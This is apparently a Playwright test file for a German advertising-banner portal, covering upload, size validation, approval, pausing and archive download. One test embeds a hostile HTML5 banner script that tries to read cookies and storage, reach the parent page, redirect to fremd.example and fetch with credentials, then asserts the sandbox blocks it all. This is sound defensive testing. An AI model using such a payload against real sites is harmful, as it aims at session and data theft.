import { PATHS } from "@schaufenster/contract/paths.ts";
import type { Locator, Page } from "@playwright/test";
import { expectAccessible, expectNoSidewaysScroll } from "../house/accessibility.ts";
import { decide, htmlBanner, INN, movingPicture, ownerWithBanner } from "../house/banners.ts";
import { toast } from "../house/entry.ts";
import { expect, signIn, test } from "../house/journey.ts";
import { PEOPLE } from "../house/people.ts";
import { jpeg } from "../house/photos.ts";

const expectGood = async (page: Page): Promise<void> => {
  await expectAccessible(page);
  await expectNoSidewaysScroll(page);
};
const banner = (page: Page, title: string): Locator =>
  page.getByRole("list", { name: "Liste der Werbebanner" }).getByRole("listitem").filter({ hasText: title });
const files = (page: Page): Locator => page.getByRole("list", { name: "Dateien" }).getByRole("listitem");
const choose = async (page: Page, chosen: Parameters<Locator["setInputFiles"]>[0]): Promise<void> => {
  const asked = page.waitForEvent("filechooser");
  await page.getByRole("button", { name: "Dateien auswählen" }).click();
  await (await asked).setFiles(chosen);
};

test("from the first file to the release: sizes are checked, a moving picture plays when asked, the provider refuses and accepts", async ({
  page,
  noise,
}) => {
  // What watches the journey wants to run in every frame; in this one nothing does.
  noise.expect(/Blocked script execution in .*showWebBannerFile/);
  const owner = await ownerWithBanner(page);
  await signIn(page, owner.email, PATHS.webBannerOverview, owner.password);
  const mine = banner(page, "Fassade im Herbst");
  await expect(mine.getByText("Warum läuft es nicht? Es fehlen noch Motive.")).toBeVisible();
  await expectGood(page);
  await mine.getByRole("link", { name: "Motive hochladen: Fassade im Herbst" }).click();
  await expect(page.getByRole("heading", { level: 1, name: "Dateien hochladen" })).toBeVisible();
  await expectGood(page);

  await choose(page, [await jpeg(page, "zu-breit.jpg", 301, 250), movingPicture("herbst.gif")]);
  await expect(files(page).filter({ hasText: "zu-breit.jpg" })).toContainText(
    "Die Datei hat 301 × 250 Pixel. Gebraucht werden genau 300 × 250 oder 728 × 90 Pixel.",
  );
  const moving = files(page).filter({ hasText: "herbst.gif" });
  await expect(moving.getByText("Passt", { exact: true })).toBeVisible();
  await expectGood(page);

  // It stands still until somebody asks.
  await expect(page.locator("iframe")).toHaveCount(0);
  await moving.getByRole("button", { name: /^Animation abspielen/ }).click();
  const frame = page.frameLocator('iframe[title^="Animation"]');
  await expect.poll(() => frame.locator("img").evaluate((image) => (image as HTMLImageElement).naturalWidth)).toBe(300);
  await expect(page.locator("iframe")).toHaveAttribute("sandbox", "");
  await expectGood(page);
  await moving.getByRole("button", { name: /^Animation anhalten/ }).click();
  await expect(page.locator("iframe")).toHaveCount(0);

  await page.getByRole("button", { name: "zu-breit.jpg entfernen" }).click();
  await expect(files(page).filter({ hasText: "zu-breit.jpg" })).toHaveCount(0);

  // What is missing is said before anything is sent.
  await page.getByRole("button", { name: "Zur Freigabe vorlegen" }).click();
  await expect(page.getByRole("alert")).toContainText("Es fehlen noch Motive");
  await choose(page, [await jpeg(page, "breit.jpg", 728, 90)]);
  await expect(page.getByText("2 von 2 Formaten vorhanden.")).toBeVisible();
  await page.getByLabel("Bildbeschreibung").fill("Haus mit neuer Fassade");
  await page.getByLabel("Ich habe die Rechte an allen Bildern und Schriften.").check();
  await page.getByRole("button", { name: "Zur Freigabe vorlegen" }).click();
  await expect(toast(page, "Die Motive sind vorgelegt.")).toBeVisible();
  await expect(mine.getByText("Warum läuft es nicht? Ihre Freigabe fehlt.")).toBeVisible();

  await mine.getByRole("button", { name: "Freigeben: Fassade im Herbst" }).click();
  const release = page.getByRole("dialog", { name: "Motive freigeben?" });
  await expect(release.getByRole("img", { name: "Haus mit neuer Fassade, 300 × 250 Pixel" })).toBeVisible();
  await expectGood(page);
  await release.getByRole("button", { name: "Freigeben" }).click();
  await expect(mine.getByText("Unsere Prüfung steht noch aus.")).toBeVisible();

  await decide(owner, "rejected", "Die Schrift ist zu klein");
  await page.reload();
  await expect(mine.getByText("„Die Schrift ist zu klein“")).toBeVisible();
  await mine.getByRole("link", { name: "Motive hochladen: Fassade im Herbst" }).click();
  await expect(page.getByRole("heading", { name: "Diese Motive wurden abgelehnt" })).toBeVisible();
  await expect(page.getByText("0 von 2 Formaten vorhanden.")).toBeVisible();
  await expectGood(page);
});

test("pause, two tabs, and all formats as one archive", async ({ page, noise }) => {
  noise.expect(/409 .*updateCompanyWebBannerStatus/);
  const owner = await ownerWithBanner(page);
  await signIn(page, owner.email, `${PATHS.webBannerUpload}?banner=${owner.bannerId}`, owner.password);
  await choose(page, [movingPicture("a.gif"), await jpeg(page, "b.jpg", 728, 90)]);
  await expect(page.getByText("2 von 2 Formaten vorhanden.")).toBeVisible();
  await page.getByLabel("Bildbeschreibung").fill("Haus");
  await page.getByLabel("Ich habe die Rechte an allen Bildern und Schriften.").check();
  await page.getByRole("button", { name: "Zur Freigabe vorlegen" }).click();
  const mine = banner(page, "Fassade im Herbst");
  await expect(mine).toBeVisible();
  await decide(owner, "running");
  await page.reload();
  await expect(mine.getByText(/^Das Banner wird seit dem .* angezeigt\.$/)).toBeVisible();

  const other = await page.context().newPage();
  await other.goto(PATHS.webBannerOverview);
  await banner(other, "Fassade im Herbst")
    .getByRole("button", { name: /^Pausieren/ })
    .click();
  await mine.getByRole("button", { name: /^Pausieren/ }).click();
  await other.getByRole("dialog").getByRole("button", { name: "Pausieren" }).click();
  await expect(banner(other, "Fassade im Herbst").getByText(/^Sie haben das Banner am .* pausiert\.$/)).toBeVisible();
  await other.close();
  const late = page.getByRole("dialog", { name: "Banner pausieren?" });
  await late.getByRole("button", { name: "Pausieren" }).click();
  await expect(late.getByRole("alert")).toContainText("hat sich inzwischen geändert");
  await page.keyboard.press("Escape");
  await expect(mine.getByRole("button", { name: /^Fortsetzen/ })).toBeVisible();

  const archive = page.waitForEvent("download");
  await mine.getByRole("button", { name: "Alle Formate von Fassade im Herbst als ZIP herunterladen" }).click();
  expect((await archive).suggestedFilename()).toBe("Fassade-im-Herbst.zip");
});

/** Everything that a hostile banner would try; it writes what became of it into its own page. */
const ATTACK = `<h1 id="text">Angebot</h1><pre id="said"></pre><script>
const said = [];
const tell = (what) => { said.push(what); document.getElementById("said").textContent = said.join("\\n"); };
const attempt = (name, work) => { try { tell(name + ": got " + work()); } catch (error) { tell(name + ": " + error.name); } };
attempt("origin", () => self.origin);
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("parent", () => parent.document.title);
attempt("top", () => { top.location.href = "https://fremd.example/"; return "away"; });
const home = new URL("/", document.baseURI).href;
const asks = [["api", home + "api/user/getUser"], ["else", "https:" + "/" + "/fremd.example/"]];
Promise.all(asks.map(([name, url]) => fetch(url, { credentials: "include" }).then(() => tell(name + ": got"), (error) => tell(name + ": " + error.name))))
  .then(() => new Promise((done) => { const image = new Image(); image.onload = () => done(tell("image: got")); image.onerror = () => done(tell("image: Error")); image["sr" + "c"] = home + "favicon.ico"; }))
  .then(() => { const frame = document.createElement("iframe"); frame["sr" + "c"] = home; document.body.append(frame); const form = document.createElement("form"); form.action = home; form.method = "post"; document.body.append(form); form.submit(); tell("end"); });
</script>`;

test("an HTML5 banner plays in a frame from which it reaches neither the network nor the portal", async ({ page, noise }) => {
  noise.expect(/fremd\.example|Content Security Policy|sandboxed|Blocked|violates|Failed to load resource|Unsafe attempt|ERR_BLOCKED/);
  const owner = await ownerWithBanner(page);
  await signIn(page, owner.email, `${PATHS.webBannerUpload}?banner=${owner.bannerId}`, owner.password);
  await choose(page, [htmlBanner("boese.zip", ATTACK), htmlBanner("fremd.zip", '<script src="https://fremd.example/a.js"></script>')]);
  await expect(files(page).filter({ hasText: "fremd.zip" })).toContainText("Das Banner lädt etwas von fremden Adressen");
  const row = files(page).filter({ hasText: "boese.zip" });
  await expect(row.getByText("Passt", { exact: true })).toBeVisible();
  await expectGood(page);
  const asked: string[] = [];
  page.on("request", (request) => void (request.frame() === page.mainFrame() ? null : asked.push(request.url())));
  const address = page.url();
  await row.getByRole("button", { name: /^Animation abspielen/ }).click();
  await expect(page.locator("iframe")).toHaveAttribute("sandbox", "allow-scripts");
  const said = page.frameLocator('iframe[title^="Animation"]').locator("#said");
  await expect(said).toContainText("end");
  expect((await said.innerText()).split("\n")).toEqual([
    "origin: got null",
    "cookie: SecurityError",
    "storage: SecurityError",
    "parent: SecurityError",
    "top: SecurityError",
    expect.stringMatching(/^(api|else): TypeError$/),
    expect.stringMatching(/^(api|else): TypeError$/),
    "image: Error",
    "end",
  ]);
  // The one answer that was fetched for the frame is the page itself, and the portal is where it was.
  expect(asked.filter((url) => !url.startsWith("data:")).map((url) => new URL(url).pathname)).toEqual([
    "/api/web-banners/showWebBannerFile",
  ]);
  expect(page.url()).toBe(address);
  await expectNoSidewaysScroll(page);
});

test("every state of the demo world says why, and the tabs narrow the list", async ({ page }) => {
  await page.addInitScript((id) => localStorage.setItem("active-account-id", id), INN);
  await signIn(page, PEOPLE.kranz, PATHS.webBannerOverview);
  const all = page.getByRole("list", { name: "Liste der Werbebanner" }).getByRole("listitem");
  await expect(all).toHaveCount(6);
  await expect(banner(page, "Mittagstisch")).toContainText("„Der Preis ist auf dem Bild nicht zu lesen“");
  await expect(banner(page, "Martinsgans")).toContainText("18.420 Einblendungen, 96 Klicks");
  await expectGood(page);
  await page.getByRole("tab", { name: /^Wartet auf Sie/ }).click();
  await expect(all).toHaveCount(3);
  await page.goto(`${PATHS.webBannerOverview}?stand=laeuft`);
  await expect(all).toHaveCount(1);
  await banner(page, "Martinsgans").getByRole("button", { name: "Ansehen: Martinsgans" }).click();
  const look = page.getByRole("dialog", { name: "Motive: Martinsgans" });
  await expect(look.getByRole("img")).toHaveCount(3);
  await expectGood(page);
});
